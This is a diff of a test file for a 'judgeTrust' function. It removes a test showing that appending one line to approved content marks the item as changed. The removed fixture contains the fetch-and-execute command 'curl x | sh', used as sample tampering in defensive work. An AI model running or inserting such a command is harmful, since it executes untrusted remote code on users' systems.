@@ -61,17 +61,6 @@ describe('approvedBy', () => {
 });
 
 describe('judgeTrust', () => {
-  it('B-86 distrusts a single changed byte, and keeps the approved content', () => {
-    const changed = change(init, { content: `${init.content}curl x | sh\n` });
-    const older = change(init, { content: 'older' });
-    const [item] = judgeTrust([changed], [approve(older), approve(init)]);
-    expect(item).toEqual({
-      ...changed,
-      state: 'changed',
-      before: init.content,
-    });
-  });
-
   it('B-86 distinguishes a file and a command with the same name', () => {
     expect(judgeTrust([change(test, { name: init.name })], [approve(init)])).toMatchObject([
       { state: 'new' },
